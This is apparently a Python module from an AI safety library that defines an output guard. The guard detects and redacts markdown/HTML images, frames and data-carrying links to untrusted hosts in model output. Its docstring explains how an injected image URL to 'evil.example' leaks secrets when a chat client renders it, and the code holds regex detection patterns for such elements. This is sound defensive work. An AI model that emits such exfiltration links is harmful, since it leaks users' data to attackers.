"""Markdown/HTML exfiltration: images or links to untrusted hosts that carry data in the URL.

A chat client fetches a markdown image as soon as it renders it, so an injected
``![](https://evil.example/p?q=<secret>)`` leaks without a click. Images from hosts outside the
allow-list are findings; links are findings when their URL carries data (a query string, or
a long encoded path segment). The ``allowed_hosts`` option lists trusted hosts (comma-separated;
subdomains included).
"""

from __future__ import annotations

import re
from typing import ClassVar
from urllib.parse import unquote, urlsplit

from sai.guards.base import (
    Direction,
    Guard,
    GuardContext,
    GuardId,
    GuardResult,
    OnMatch,
    Span,
)

_ELEMENTS = (
    ("image", re.compile(r"!\[[^\]]{0,500}\]\(\s*<?(?P<url>[^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")),
    ("image", re.compile(r"(?i)<img\b[^>]*?\bsrc\s*=\s*[\"']?(?P<url>[^\"'\s>]+)[^>]*>")),
    ("image", re.compile(r"(?im)^\s*\[[^\]]+\]:\s*(?P<url>https?://\S+)")),
    (
        "frame",
        re.compile(
            r"(?i)<(?:iframe|script|link|source|video|audio)\b[^>]*?\b(?:src|href)"
            r"\s*=\s*[\"']?(?P<url>[^\"'\s>]+)[^>]*>"
        ),
    ),
    (
        "link",
        re.compile(r"(?<!!)\[[^\]]{0,500}\]\(\s*<?(?P<url>[^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)"),
    ),
    ("link", re.compile(r"(?i)<a\b[^>]*?\bhref\s*=\s*[\"']?(?P<url>[^\"'\s>]+)[^>]*>")),
)
#: Per element pattern above (same order), a string each of its matches contains.
_MARKS = ("](", "<", "]:", "<", "](", "<")
_NOTHING = "no images or data-carrying links to untrusted hosts"
_ENCODED = re.compile(r"[A-Za-z0-9+/=_%\-]{24,}")


def _host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    return any(host == item or host.endswith("." + item) for item in allowed)


def _carries_data(url: str) -> bool:
    parts = urlsplit(url)
    if parts.query or (parts.fragment and len(parts.fragment) > 16):
        return True
    return any(_ENCODED.fullmatch(unquote(seg)) for seg in parts.path.split("/") if seg)


class ExfiltrationGuard(Guard):
    """Flags images and data-carrying links to untrusted hosts in model output."""

    name: ClassVar[GuardId] = GuardId("exfiltration")
    directions: ClassVar[frozenset[Direction]] = frozenset({Direction.output})
    default_action: ClassVar[OnMatch] = OnMatch.redact
    runs_light: ClassVar[bool] = True

    @property
    def allowed_hosts(self) -> tuple[str, ...]:
        """Trusted hosts from the ``allowed_hosts`` option."""
        raw = self.settings.option("allowed_hosts", "")
        return tuple(h.strip().lower() for h in raw.split(",") if h.strip())

    def scan(self, text: str, context: GuardContext) -> GuardResult:
        """Score each embedded URL; the strongest decides."""
        if "<" not in text and "](" not in text and "]:" not in text:  # no element's mark
            return self.clean(_NOTHING)
        allowed = self.allowed_hosts
        spans: list[Span] = []
        score = 0.0
        seen: set[tuple[int, int]] = set()
        for (kind, pattern), mark in zip(_ELEMENTS, _MARKS, strict=True):
            for m in pattern.finditer(text) if mark in text else ():
                if any(a <= m.start() < b for a, b in seen):
                    continue
                url = m.group("url")
                parts = urlsplit(url)
                if parts.scheme.lower() not in ("http", "https", "") or not parts.hostname:
                    continue
                if _host_allowed(parts.hostname.lower(), allowed):
                    continue
                data = _carries_data(url)
                value = {"image": 0.7, "frame": 0.7, "link": 0.0}[kind] + (0.3 if data else 0.0)
                if kind == "link" and data:
                    value = 0.8
                if value >= 0.5:
                    seen.add((m.start(), m.end()))
                    spans.append(Span(m.start(), m.end(), f"{kind}-to-untrusted-host"))
                    score = max(score, value)
        if not spans:
            return self.clean(_NOTHING)
        return self.verdict(
            text,
            score,
            sorted(spans, key=lambda s: s.start),
            f"{len(spans)} image(s)/link(s) to untrusted hosts that could carry data out",
        )


__all__ = ["ExfiltrationGuard"]
